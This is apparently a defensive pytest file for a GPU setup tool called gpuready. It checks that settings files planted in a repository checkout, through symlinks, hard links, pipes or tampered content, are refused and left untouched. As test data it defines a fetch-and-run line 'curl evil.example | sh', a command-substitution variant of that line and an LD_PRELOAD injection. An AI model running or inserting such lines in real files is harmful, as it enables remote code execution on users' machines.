"""Files of the current folder that bear a name of gpuready are its own only if this user's gpuready wrote them as they are."""

from __future__ import annotations

import os
import shlex

import pytest

from gpuready.apply.fix_record import _HEADER, FILE_NAME, FixState, SettingsFile
from gpuready.launcher.rank_logs import RankLogs
from gpuready.system import LiveHost

EVIL = "curl evil.example | sh\n"


@pytest.fixture
def place(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "checkout").mkdir()
    monkeypatch.chdir(tmp_path / "checkout")
    return tmp_path / "checkout"


def settings_file(place):
    return SettingsFile(LiveHost(), FixState(LiveHost(), str(place)))


def plant_words(place):
    (place / FILE_NAME).write_text(EVIL)


def plant_mark(place):
    (place / FILE_NAME).write_text(f"{_HEADER}\n{EVIL}")


def plant_only_settings(place):
    (place / FILE_NAME).write_text(f"{_HEADER}\nexport LD_PRELOAD=/tmp/evil.so\n")


def plant_substitution(place):
    (place / FILE_NAME).write_text(f"{_HEADER}\nexport A=$({EVIL.strip()})\n")


def plant_link(place):
    (place.parent / "precious").write_text(f"{_HEADER}\nexport A=1\n")
    os.symlink("../precious", place / FILE_NAME)


def plant_dangling_link(place):
    os.symlink("../not-there", place / FILE_NAME)


def plant_record_beside_it(place):
    """The record of another state folder, which the checkout brings along."""
    plant_mark(place)
    (place / ".gpuready").mkdir()
    (place / ".gpuready" / "record.json").write_text(f'{{"path": "{place}/gpuready-env.sh"}}')


def plant_pipe(place):
    os.mkfifo(place / FILE_NAME)


def plant_hard_link(place):
    (place.parent / "precious").write_text("export A=1\n")
    os.link(place.parent / "precious", place / FILE_NAME)


PLANTED = [
    plant_hard_link, plant_words, plant_mark, plant_only_settings, plant_substitution, plant_link, plant_dangling_link, plant_record_beside_it, plant_pipe,
]  # fmt: skip


@pytest.mark.parametrize("plant", PLANTED, ids=lambda plant: plant.__name__)
def test_a_settings_file_that_came_with_a_checkout_is_refused(place, plant):
    plant(place)
    found = os.lstat(place / FILE_NAME)
    with pytest.raises(ValueError, match="is not as gpuready fix wrote it for you"):
        settings_file(place).write(str(place / FILE_NAME), {"NCCL_DEBUG": "WARN"}, ())
    assert os.lstat(place / FILE_NAME) == found and not (place.parent / "not-there").exists()
    assert settings_file(place).state.read().settings_path == ""


def test_our_own_grows_and_goes_back(place):
    path, own = str(place / FILE_NAME), settings_file(place)
    own.write(path, {"A": "1"}, ())
    first = (place / FILE_NAME).read_text()
    SettingsFile(LiveHost(), FixState(LiveHost(), str(place / "another-env"))).write(path, {"B": "a b"}, ["C"])
    assert [shlex.split(line) for line in (place / FILE_NAME).read_text().splitlines()[1:]] == [
        ["export", "A=1"],
        ["export", "B=a b"],
        ["unset", "C"],
    ]
    SettingsFile(LiveHost(), FixState(LiveHost(), str(place / "another-env"))).undo()
    assert (place / FILE_NAME).read_text() == first
    assert own.undo() == path and not (place / FILE_NAME).exists()


@pytest.mark.parametrize("plant", PLANTED, ids=lambda plant: plant.__name__)
def test_an_undo_leaves_what_was_put_in_its_place(place, plant):
    own = settings_file(place)
    own.write(str(place / FILE_NAME), {"A": "1"}, ())
    (place / FILE_NAME).unlink()
    plant(place)
    found = os.lstat(place / FILE_NAME)
    with pytest.raises(ValueError, match="is not as gpuready fix wrote it for you"):
        own.undo()
    left = os.lstat(place / FILE_NAME)
    assert (*left[:7], left.st_mtime_ns) == (*found[:7], found.st_mtime_ns)  # it may have been read


@pytest.mark.parametrize("link", ["gpuready-logs", "gpuready-logs/7", "a/../gpuready-logs"])
def test_no_link_of_this_folder_leads_logs_elsewhere(place, link):
    """git makes links that belong to the user."""
    (place.parent / "elsewhere").mkdir()
    (place / "a").mkdir()
    os.makedirs(os.path.dirname(place / link), exist_ok=True)
    os.symlink(place.parent / "elsewhere", place / link)
    with pytest.raises(OSError, match="is a link; name the folder that it leads to"):
        RankLogs(f"{place}/gpuready-logs/7", new_run=True)
    assert not list((place.parent / "elsewhere").iterdir())
